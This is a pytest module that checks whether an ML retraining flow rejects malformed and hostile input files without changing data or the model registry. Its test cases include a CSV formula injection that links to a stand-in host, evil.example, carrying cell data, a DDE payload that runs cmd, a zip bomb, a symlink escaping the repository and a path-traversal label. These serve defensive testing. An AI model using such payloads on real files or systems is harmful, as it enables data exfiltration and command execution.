"""Malformed and hostile input files through the scheduled `retrain` flow (real Prefect, DVC, Great
Expectations, MLflow): each one ends the flow Failed with a message that names the problem, registers no
model, leaves the champion where it was, and leaves data/, data.dvc and the DVC cache byte-identical.

The flow runs in this process against a temporary Prefect server (prefect_test_harness), once per file.
"""

from __future__ import annotations

import gzip
import io
import shutil
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from helpers import data_state, git, registry_state

from textops.data.sample import make_sample
from textops.lifecycle.landed import named_in

pytestmark = pytest.mark.reliability

GOOD = make_sample(300, 77)  # valid rows of the known labels (negative/positive)


def csv_text(frame: pd.DataFrame) -> str:
    return frame.to_csv(index=False)


def parquet_bytes(frame: pd.DataFrame) -> bytes:
    buf = io.BytesIO()
    frame.to_parquet(buf, index=False)
    return buf.getvalue()


def good_csv(n: int = 40) -> str:
    return csv_text(GOOD.head(n))


def _bytes(content: str | bytes) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def link_outside(landing: Path) -> None:
    """A valid file outside the repository, and a link to it in the landing directory."""
    outside = landing.parents[1] / "outside-the-repo.csv"
    outside.write_text(good_csv(40))
    (landing / "symlink_outside.csv").symlink_to(outside)


# name -> (file content, or a function that makes the file in the landing directory; what the message says)
CASES: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
    # The data issue's twelve.
    "missing_text.csv": ("review,label\na fine film,positive\n", "missing column(s) text"),
    "missing_label.csv": ("text,sentiment\na fine film,positive\n", "missing column(s) label"),
    "empty.csv": (b"", "the file is empty"),
    "header_only.csv": ("text,label\n", "has a header but no rows"),
    "all_null_texts.csv": ("text,label\n,positive\n,negative\n", "every value in the text column"),
    "unknown_label.csv": (good_csv(10) + "a fine film,positve\n", "unknown label(s) ['positve']"),
    "binary.csv": (bytes(range(256)) * 64, "binary file"),
    "latin1.csv": ("text,label\ncafé was great,positive\nawful,negative\n".encode("latin-1"), "not valid UTF-8"),
    "ragged.csv": ("text,label\nfine,positive\nbad,negative,extra,cols\n", "malformed CSV"),
    "repeated_header.csv": ("text,label\nfine film,positive\ntext,label\ndull film,negative\n", "header row appears"),
    "long_row.csv": ("text,label\n" + "x" * 1_500_000 + ",positive\nok film,negative\n", "value_lengths"),
    "mixed_label_types.jsonl": (
        '{"text": "fine film", "label": 1}\n{"text": "dull film", "label": "negative"}\n',
        "mixes numbers and names",
    ),
    # And more.
    "formula_injection.csv": (
        good_csv(20) + '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",positive\n',
        "not_match_regex",
    ),
    "dde_injection.csv": (good_csv(20) + "\"-2+3+cmd|' /C calc'!A0\",negative\n", "not_match_regex"),
    "nul_bytes.csv": (good_csv(200) + "bad\x00film,negative\n", "NUL"),
    "zip_bomb.csv.gz": (
        gzip.compress(b"text,label\n" + b"a" * (3 * 2**20) + b",positive\n", 9),
        "decompresses to more than the limit",
    ),
    "truncated.csv.gz": (gzip.compress(good_csv(200).encode())[:300], "not a readable gzip file"),
    "oversized.csv": ("text,label\n" + ("a long review of a film,positive\n" * 70_000), "over the limit"),
    "mixed_line_endings.csv": (
        "text,label\r\nfine film,positive\r\ndull film,negative\nnice film,positive\r\n",
        "mixed line endings",
    ),
    "bom_in_middle.csv": (good_csv(5) + "\ufefftext,label\nfine film,positive\n", "byte-order mark"),
    "float_labels.csv": ("text,label\nfine film,0.5\ndull film,1.5\n", "whole numbers"),
    "bool_labels.jsonl": (
        '{"text": "fine film", "label": true}\n{"text": "dull film", "label": false}\n',
        "boolean labels",
    ),
    "one_class.csv": (csv_text(GOOD[GOOD["label"] == "positive"].head(50)), "unique_value_count"),
    "duplicates_90pct.csv": (
        csv_text(pd.concat([GOOD.head(2)] * 45 + [GOOD.iloc[2:12]], ignore_index=True)),
        "expect_column_values_to_be_unique",
    ),
    # Valid on its own; with it, the training split's class ratio passes validate.max_class_ratio.
    "imbalance.csv": (
        csv_text(
            pd.DataFrame(
                {
                    "text": [f"the film number {i} was great" for i in range(12000)] + ["a dull film"],
                    "label": ["positive"] * 12000 + ["negative"],
                }
            )
        ),
        "cleaned data would fail its checks",
    ),
    "wrong_schema.parquet": (parquet_bytes(pd.DataFrame({"review": ["fine"], "stars": [5]})), "missing column(s)"),
    "not_really.parquet": (good_csv(5), "not a Parquet file"),
    "corrupt.parquet": (parquet_bytes(GOOD.head(50))[:200], "cannot read Parquet"),
    "broken_line.jsonl": ('{"text": "fine film", "label": "positive"}\n{"text": "dull\n', "line 2 is not valid JSON"),
    "array_lines.jsonl": ('["fine film", "positive"]\n', "not a JSON object"),
    "nested_text.jsonl": (
        '{"text": {"a": {"b": "deep"}}, "label": "positive"}\n{"text": "ok", "label": "negative"}\n',
        "non-text values",
    ),
    "null_label.jsonl": (
        '{"text": "fine film", "label": null}\n{"text": "dull film", "label": "negative"}\n',
        "1 of 2 rows have an empty text or label (lines 1)",
    ),
    "blank_texts.csv": ('text,label\n"   ",positive\n"\t",negative\nfine film,positive\n', "lines 2, 3"),
    "unclosed_quote.csv": ('text,label\n"fine film,positive\ndull film,negative\n', "malformed CSV"),
    "utf16.csv": ("text,label\nfine film,positive\ndull film,negative\n".encode("utf-16"), "UTF-16"),
    "spreadsheet.xlsx": (b"PK\x03\x04 not really a workbook", "unsupported file type"),
    "symlink_outside.csv": (lambda landing: link_outside(landing), "a symbolic link"),
}


@pytest.fixture(scope="module")
def prefect_api():
    """A temporary Prefect server and database for the flows this module runs in-process."""
    from prefect.testing.utilities import prefect_test_harness

    with prefect_test_harness(server_startup_timeout=180):
        yield


@pytest.fixture(scope="module")
def retrain_flow():
    from textops.flows.retrain import retrain

    return retrain


def test_there_are_at_least_30_cases():
    assert len(CASES) >= 30


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_file_fails_the_flow_and_changes_nothing(
    name, champion_template, prefect_api, retrain_flow, monkeypatch
):
    root = champion_template
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    landing = root / "landing"
    shutil.rmtree(landing, ignore_errors=True)
    landing.mkdir()
    content, expected = CASES[name]
    if callable(content):
        content(landing)
    else:
        (landing / name).write_bytes(_bytes(content))
    data_before, registry_before = data_state(root), registry_state(root)
    head_before = git(root, "rev-parse", "HEAD")

    state = retrain_flow(project_dir=str(root), return_state=True)

    assert state.is_failed(), (state.type, state.message)
    message = state.message or ""
    try:
        state.result()
    except Exception as exc:  # the exception the flow failed with carries the whole message
        message += f" {exc}"
    assert expected in message, message
    assert "Traceback" not in message
    assert data_state(root) == data_before
    assert registry_state(root) == registry_before  # no new version, the champion alias where it was
    # Refused for its data: moved to held/ with the reason beside it, out of the files waiting for the next run.
    held = landing / "held" / name
    if named_in(landing / name, message):
        assert held.exists() or held.is_symlink(), sorted(p.name for p in landing.rglob("*"))
        assert expected in Path(f"{held}.reason.txt").read_text(), message
        assert not (landing / name).exists() and not (landing / name).is_symlink()
    else:
        assert (landing / name).exists() or (landing / name).is_symlink()  # left where it is for a person
    assert git(root, "rev-parse", "HEAD") == head_before  # nothing committed
    shutil.rmtree(landing)


# Label names a user may well have: characters MLflow refuses in metric names, names of the aggregate metrics,
# very long names, markup, emoji, a path, two spellings of one name (NFC/NFD).
ODD_LABELS = ["macro_f1", "accuracy", "a/b: c?", "<b>bold</b>", "fun 😀", "négatif", "x" * 300, "../../etc"]


@pytest.mark.extended
def test_any_label_ingest_accepts_trains_evaluates_registers_and_predicts(tmp_path, monkeypatch):
    from helpers import FAST, FLOW, make_project, set_params, textops

    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    root = make_project(tmp_path / "proj")
    set_params(root, FAST, FLOW, {"validate": {"min_rows": 40, "min_rows_per_class": 5, "max_class_ratio": 3}})
    words = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"]
    rows = [(f"{words[k]} {words[k]} item {i}", label) for k, label in enumerate(ODD_LABELS) for i in range(40)]
    rows += [(f"golf golf extra {i}", "ne\u0301gatif") for i in range(5)]  # the NFD spelling of one class
    pd.DataFrame(rows, columns=["text", "label"]).to_csv(tmp_path / "odd.csv", index=False)
    textops(root, "ingest", str(tmp_path / "odd.csv"))
    out = textops(root, "run").stdout
    assert "now the champion" in out, out
    import json

    assert json.loads((root / "artifacts/clean/labels.json").read_text())["labels"] == sorted(
        unicodedata.normalize("NFC", label) for label in ODD_LABELS
    )
    (tmp_path / "texts.csv").write_text("text\nalpha alpha item 3\nhotel hotel item 9\n")
    textops(root, "predict", str(tmp_path / "texts.csv"), "-o", str(tmp_path / "out.csv"))
    predicted = pd.read_csv(tmp_path / "out.csv")
    assert set(predicted["label"]) <= set(ODD_LABELS) and len(predicted) == 2
